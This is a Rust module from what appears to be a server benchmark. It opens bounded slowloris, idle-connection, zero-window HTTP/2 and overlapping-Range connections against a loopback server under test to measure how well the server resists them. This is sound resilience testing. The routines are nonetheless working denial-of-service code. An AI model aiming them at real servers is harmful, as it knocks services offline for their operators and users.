//! The attacks: each opens its connections (bounded in number), holds them
//! for as long as the returned [`Running`] lives, and sends traffic only to
//! the server under test on loopback.

use crate::{BenchError, io_err};
use bytes::Bytes;
use http_body_util::Empty;
use hyper_util::rt::{TokioExecutor, TokioIo};
use std::time::Duration;
use tokio::{io::AsyncWriteExt, net::TcpStream, task::JoinSet};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// No attack: the baseline.
    Quiet,
    /// Connections that ask for the large file, each from its own offset,
    /// and never read.
    NonReading(usize),
    /// HTTP/2 connections whose streams all ask for the large file with a
    /// stream window of zero, so the server may send nothing.
    ZeroWindowH2 { connections: usize, streams: usize },
    /// Connections that send nothing.
    IdleH1(usize),
    /// HTTP/2 connections that send the preface and settings, then nothing.
    IdleH2(usize),
    /// Connections that send a request head one header line per second.
    Slowloris(usize),
    /// Clients that each ask ten times a second for 64 copies of the same
    /// MiB in one Range field (a cheap request for 64 MiB of work), and
    /// read what they get.
    OverlappingRanges(usize),
}

impl Attack {
    pub fn name(&self) -> String {
        match *self {
            Attack::Quiet => "quiet".into(),
            Attack::NonReading(n) => format!("{n} non-reading"),
            Attack::ZeroWindowH2 { connections, streams } => format!("{connections}x{streams} zero-window h2"),
            Attack::IdleH1(n) => format!("{n} idle h1"),
            Attack::IdleH2(n) => format!("{n} idle h2"),
            Attack::Slowloris(n) => format!("{n} slowloris"),
            Attack::OverlappingRanges(n) => format!("{n} overlapping-range"),
        }
    }

    /// Needs HTTP/2 without TLS (prior knowledge) on the server's port.
    pub fn needs_h2c(&self) -> bool {
        matches!(self, Attack::ZeroWindowH2 { .. } | Attack::IdleH2(_))
    }

    /// Connections it holds open at once (for the open-file limit).
    pub fn connections(&self) -> usize {
        match *self {
            Attack::Quiet => 0,
            Attack::NonReading(n) | Attack::IdleH1(n) | Attack::IdleH2(n) | Attack::Slowloris(n) => n,
            Attack::OverlappingRanges(n) => n,
            Attack::ZeroWindowH2 { connections, .. } => connections,
        }
    }
}

/// An attack in progress; dropping it closes its connections.
pub struct Running {
    _held: Vec<TcpStream>,
    _tasks: JoinSet<()>,
    /// Connections the server accepted, and those it refused or dropped
    /// while the attack was set up.
    pub opened: usize,
    pub failed: usize,
}

const H2_PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// An empty SETTINGS frame.
const H2_SETTINGS: &[u8] = &[0, 0, 0, 4, 0, 0, 0, 0, 0];

async fn connect(addr: &str) -> Option<TcpStream> {
    tokio::time::timeout(Duration::from_secs(2), TcpStream::connect(addr)).await.ok()?.ok()
}

/// Opens `attack`'s connections to `addr`; `big` is the large file's path
/// and `size` its length.
pub async fn start(attack: Attack, addr: &str, big: &str, size: u64) -> Result<Running, BenchError> {
    let mut held = Vec::new();
    let mut tasks = JoinSet::new();
    let (mut opened, mut failed) = (0, 0);
    match attack {
        Attack::Quiet => {}
        Attack::NonReading(n) => {
            for i in 0..n {
                let Some(mut c) = connect(addr).await else {
                    failed += 1;
                    continue;
                };
                let from = (i as u64 * (size / n as u64)) & !0xffff;
                let req = format!("GET {big} HTTP/1.1\r\nHost: bench\r\nRange: bytes={from}-\r\n\r\n");
                if c.write_all(req.as_bytes()).await.is_ok() {
                    opened += 1;
                    held.push(c);
                } else {
                    failed += 1;
                }
            }
        }
        Attack::IdleH1(n) | Attack::IdleH2(n) | Attack::Slowloris(n) => {
            for _ in 0..n {
                let Some(mut c) = connect(addr).await else {
                    failed += 1;
                    continue;
                };
                let first: Vec<u8> = match attack {
                    Attack::IdleH2(_) => [H2_PREFACE, H2_SETTINGS].concat(),
                    Attack::Slowloris(_) => format!("GET {big} HTTP/1.1\r\nHost: bench\r\n").into_bytes(),
                    _ => Vec::new(),
                };
                if c.write_all(&first).await.is_ok() {
                    opened += 1;
                    held.push(c);
                } else {
                    failed += 1;
                }
            }
            if matches!(attack, Attack::Slowloris(_)) {
                let mut trickled = std::mem::take(&mut held);
                tasks.spawn(async move {
                    // Bounded: ten minutes at most, though the phase ends first.
                    for line in 0..600 {
                        tokio::time::sleep(Duration::from_secs(1)).await;
                        let header = format!("X-Slow-{line}: a\r\n");
                        for c in &mut trickled {
                            let _ = c.try_write(header.as_bytes());
                        }
                    }
                });
            }
        }
        Attack::ZeroWindowH2 { connections, streams } => {
            for _ in 0..connections {
                let Some(c) = connect(addr).await else {
                    failed += 1;
                    continue;
                };
                let handshake = hyper::client::conn::http2::Builder::new(TokioExecutor::new())
                    .initial_stream_window_size(0)
                    .handshake::<_, Empty<Bytes>>(TokioIo::new(c))
                    .await;
                let Ok((mut send, conn)) = handshake else {
                    failed += 1;
                    continue;
                };
                opened += 1;
                tasks.spawn(async move {
                    let _ = conn.await;
                });
                let uri = format!("http://bench{big}");
                tasks.spawn(async move {
                    // Response bodies kept and never polled: their windows
                    // stay shut.
                    let mut bodies = Vec::new();
                    for _ in 0..streams {
                        if send.ready().await.is_err() {
                            break;
                        }
                        let req = http::Request::get(&uri).body(Empty::<Bytes>::new()).expect("valid request");
                        match send.send_request(req).await {
                            Ok(res) => bodies.push(res),
                            Err(_) => break,
                        }
                    }
                    std::future::pending::<()>().await;
                    drop(bodies);
                });
            }
        }
        Attack::OverlappingRanges(n) => {
            let ranges = vec!["0-1048575"; 64].join(",");
            let req =
                format!("GET {big} HTTP/1.1\r\nHost: bench\r\nRange: bytes={ranges}\r\nConnection: close\r\n\r\n");
            for _ in 0..n {
                let (addr, req) = (addr.to_owned(), req.clone());
                opened += 1;
                tasks.spawn(async move {
                    let mut sink = vec![0u8; 1 << 20];
                    let mut ticks = tokio::time::interval(Duration::from_millis(100));
                    ticks.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Delay);
                    // Bounded in count too, though the phase ends first.
                    for _ in 0..6000 {
                        ticks.tick().await;
                        let Some(mut c) = connect(&addr).await else { continue };
                        if c.write_all(req.as_bytes()).await.is_err() {
                            continue;
                        }
                        while matches!(tokio::io::AsyncReadExt::read(&mut c, &mut sink).await, Ok(n) if n > 0) {}
                    }
                });
            }
        }
    }
    Ok(Running { _held: held, _tasks: tasks, opened, failed })
}

/// Raises the soft open-file limit to cover `connections` sockets here and
/// in the server (which inherits the limit).
pub fn raise_open_files(connections: usize) -> Result<(), BenchError> {
    let want = (connections + 1024) as u64;
    let (soft, hard) = rlimit::Resource::NOFILE.get().map_err(io_err("reading the open-file limit"))?;
    if want > hard {
        return Err(BenchError::Setup(format!(
            "open-file limit {hard} is below the {want} this run needs: raise `ulimit -Hn`"
        )));
    }
    if soft < want {
        rlimit::Resource::NOFILE.set(want, hard).map_err(io_err("raising the open-file limit"))?;
    }
    Ok(())
}
